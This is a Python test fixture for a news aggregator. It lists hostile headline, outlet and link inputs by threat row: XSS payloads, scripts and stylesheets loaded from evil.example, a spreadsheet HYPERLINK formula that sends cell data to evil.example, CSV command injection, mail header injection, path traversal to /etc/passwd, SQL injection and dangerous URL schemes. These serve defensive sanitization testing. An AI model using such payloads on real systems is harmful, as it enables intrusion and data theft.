"""What strangers write into headlines, outlet names and links, by the rows X1 to X14 of the threats we know.

    X1 scripts   X2 schemes   X3 hosts   X4 direction   X5 terminals   X6 logs   X7 formulas
    X8 front matter   X9 Markdown and shortcodes   X10 XML   X11 mail headers   X12 paths
    X13 queries   X14 values that stores refuse

`hostile_day` is a day whose every story is one of them; `expected_links` are the only addresses that anything
made of that day may lead to.
"""

from collections.abc import Mapping
from datetime import UTC, date, datetime, timedelta
from types import MappingProxyType
from typing import Final

from aggregator.model import DayCount, DigestArticle, DigestDay, DigestStory, StoryStatus
from aggregator.publish.text import safe_url

DAY: Final = date(2026, 1, 7)
FEED: Final = "https://feeds.example/world"
_MORNING: Final = datetime(2026, 1, 7, 8, 14, tzinfo=UTC)

TEXTS: Final[Mapping[str, tuple[str, ...]]] = MappingProxyType(
    {
        "X1": (
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js>",
            "<img src=x onerror=alert(1)>",
            '"><svg onload=alert(1)>',
            "' onmouseover='alert(1)",
            "</title></style></textarea><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "]]><script>alert(1)</script><![CDATA[",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<a href=javascript:alert(1)>here</a>",
            "<form action=javascript:alert(1)><input type=submit>",
            "<math><mi xlink:href=data:x,y>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content=0;url=https://evil.example/>",
            "<style>@import url(https://evil.example/x.css)</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
            "<b>bold</b> <i>&amp;amp;</i> &notanentity;",
        ),
        "X4": (
            "safe \u202egnp.exe\u202c name",
            "\u2066isolated\u2069 words \u2067here\u2069",
            "tagged \U000e0041\U000e0042 words",
            "zero\u200bwidth\u2060joined\ufeff words",
            'עבורת הים נעצרה "בנמל" 12',
            "العبارة <b>Skagen</b> تتوقف",
        ),
        "X5": ("a\x1b[31mred\x1b[0m words", "bell\x07 and \x9b2J words", "\x1b]0;title\x07 words"),
        "X6": (
            "one line\nERROR forged line",
            "words\r\nINFO poll feed=x outcome=modified",
            "a\u2028b\x85c\x0bd",
        ),
        "X7": (
            '=HYPERLINK("https://evil.example/?"&A1,"click")',
            "+1+1 is a formula",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd",
            "\t=1+1 after a tab",
            "\r=1+1 after a return",
            "＝1+1 in full width",
            'a,"b",\r\n"c;d"',
        ),
        "X8": (
            '"\n---\n<script>alert(1)</script>',
            "\n+++\ndraft = true\n+++\n",
            "---",
            "+++",
            "title: other # comment",
            "{a: [b, c]}",
            "*anchor &reference !!python/object:os.system",
            'quotes " and \\ and \x7f and 😀',
            "'''\"\"\"",
            "yes",
            "0o17",
            "2026-01-07",
        ),
        "X9": (
            "{{< figure src=x >}}",
            "{{% include file %}}",
            "{{ 7 * 7 }} {% raw %} {# note #} ${x}",
            "[click](javascript:alert(1))",
            "![picture](https://evil.example/x.png)",
            "[ref]: https://evil.example/",
            "<https://evil.example/> and https://evil.example/ and www.evil.example",
            "mail evil@evil.example now",
            "# heading\n## another",
            "- item\n1. item\n> quote",
            "`code` ``` ~~~ *bold* _it_ ~~gone~~ a|b",
            "<!--more--> <!-- comment -->",
            "12. January brings snow",
            "Setext\n======",
            "[^1] and :smile: and ==marked== and $x$",
        ),
        "X10": (
            "nul\x00 words",
            "tab\x0b words \x0c page",
            "not a character \ufffe \uffff",
            "half \ud83d emoji",
        ),
        "X11": (
            "words\r\nBcc: evil@evil.example",
            "=?utf-8?q?encoded?= word",
            "a\x00b\r\n\r\n<script>alert(1)</script>",
            "words " * 60,
        ),
        "X12": (
            "../../../etc/passwd",
            "..\\..\\windows",
            "/etc/passwd",
            "index",
            ".htaccess",
            "con",
            "_index",
            "long " * 80,
            "w" * 400,
            "\u200b\u202e\x00 ",
            "",
        ),
        "X13": (
            "b:secret OR 1=1",
            "'); DROP TABLE stories; --",
            '"unclosed phrase',
            "NEAR(a b, 5) AND NOT c*",
            "(" * 300,
            "^start {a b}: c",
            "-minus +plus col : x",
        ),
        "X14": ("\udc80 lone surrogate", "nul \x00 in the middle", "9223372036854775808", "NaN", "-Infinity"),
    }
)
"""Texts for headline, outlet and summary, by row."""

LINKS: Final[Mapping[str, tuple[str, ...]]] = MappingProxyType(
    {
        "X2": (
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " java\nscript:alert(1)",
            "java\tscript:alert(1)",
            "\x01javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "ftp://evil.example/x",
            "about:blank",
            "blob:https://evil.example/x",
            "feed:https://evil.example/x",
            "view-source:https://evil.example/x",
            "intent://evil.example#Intent;end",
            "tel:+123",
            "//evil.example/x",
            "/relative",
            "?query",
            "#fragment",
            "",
        ),
        "X3": (
            "https://bank.example@evil.example/",
            "https://user:secret@host.example/",
            "https://e\\@evil.example/",
            "https://good.example\\@evil.example/",
            "https:\\\\evil.example/x",
            "https://аррӏе.example/новости",
            "https://[::1/",
            "https://host.example:99999/",
            'https://a.example/"><script>alert(1)</script>',
            "https://a.example/a'b\"c(d)[e]{{f}}<g>?h=1&i=2#j",
            "https://a.example/\x00\x1b\u202e",
            "https://a.example/ onmouseover=alert(1)",
        ),
    }
)
"""Links, by row; their headlines are plain."""

ROWS: Final = tuple(sorted([*TEXTS, *LINKS], key=lambda row: int(row[1:])))


def hostile_day(row: str) -> DigestDay:
    """Return a day with a story for each text or link of the row; topic and title are the row's first text."""
    texts = TEXTS.get(row, ())
    stories = [_story(number, text, f"https://a.example/{number}") for number, text in enumerate(texts, 1)]
    for number, link in enumerate(LINKS.get(row, ()), len(stories) + 1):
        stories.append(_story(number, f"Ferry {number} runs aground off Skagen", link))
    week = tuple(DayCount(DAY - timedelta(days=back), 9, 4, 5) for back in (1, 0))
    name = texts[0].encode(errors="ignore").decode() if texts else "World"  # TOML has no lone surrogates
    return DigestDay(name, name, DAY, "Europe/Berlin", tuple(stories), source_urls=(FEED,), week=week)


def expected_links(day: DigestDay) -> set[str]:
    """Return the addresses that a file of this day may lead to."""
    links = [article.link for story in day.stories for article in story.articles]
    return {address for address in map(safe_url, [*links, *day.source_urls]) if address}


def _story(number: int, text: str, link: str) -> DigestStory:
    """A story in two outlets, one of them a stranger to the last letter; every third is of one outlet alone."""
    lead = DigestArticle(text, text, link, _MORNING, _MORNING, f"{text} {text}.", text, link)
    second = DigestArticle(text, "Harbour Post", f"https://harbour.example/{number}", None, _MORNING)
    articles = (lead, second) if number % 3 else (lead,)
    return DigestStory(
        *(number, text, StoryStatus.UPDATED, articles, _MORNING, _MORNING, len(articles), len(articles)),
        series=text,
        serial=text,
        previous_issue=text,
        new_words=(text,),
        new_outlets=(text,),
        history=(DayCount(DAY - timedelta(days=1), 2, 1), DayCount(DAY, 2, 2)),
    )
